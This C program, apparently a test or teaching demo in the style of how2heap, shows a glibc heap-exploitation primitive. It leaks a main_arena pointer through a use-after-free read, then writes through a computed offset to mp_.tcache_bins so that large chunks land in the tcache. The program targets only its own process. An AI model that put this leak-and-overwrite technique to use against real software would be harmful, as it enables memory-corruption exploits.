/* An exploit's relative write, in the spirit of how2heap's
   tcache_relative_write (our own code): leak the unsorted bin's fd (an
   address inside main_arena), add a fixed distance to reach
   mp_.tcache_bins, and raise it so that large chunks go to the tcache.
   The distance is argv[1] (fd minus &mp_.tcache_bins, as a test measures
   it in the real libc's debug file).

   How the write shows: two adjacent freed 0x510-byte chunks coalesce
   without the tcache, and malloc then hands out the first of them; in the
   tcache they stay apart, and malloc hands out the last one freed (LIFO).
   Prints "tcache" or "bins" and exits 0; a write that lands elsewhere may
   crash the program, or print "bins".

   The tcache's out-of-range entries for the 0x510 bin lie past the
   tcache's own chunk: `room`, the first allocation, takes them.  The
   out-of-range count aliases the entry of the 0x60 bin, so nothing of that
   size is allocated after the write.  */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

int
main (int argc, char **argv)
{
  if (argc != 2)
    {
      fprintf (stderr, "usage: %s DISTANCE\n", argv[0]);
      return 2;
    }
  size_t distance = strtoull (argv[1], NULL, 0);
  char *room = malloc (0x1000);
  memset (room, 0, 0x1000);

  /* The leak: a freed chunk too large for the tcache, in the unsorted bin. */
  char *leak = malloc (0x500);
  char *guard = malloc (0x20);
  /* Read after the free, as an exploit's leak does.  */
  char *volatile freed = leak;
  free (leak);
  uintptr_t fd;
  memcpy (&fd, freed, sizeof fd);
  leak = malloc (0x500);

  /* The relative write.  */
  size_t *tcache_bins = (size_t *) (fd - distance);
  *tcache_bins = 0x100;

  char *a = malloc (0x500);
  char *b = malloc (0x500);
  char *guard2 = malloc (0x20);
  free (a);
  free (b);
  char *c = malloc (0x500);
  const char *verdict = c == b ? "tcache" : c == a ? "bins" : "elsewhere";
  printf ("%s\n", verdict);
  (void) guard;
  (void) guard2;
  return 0;
}
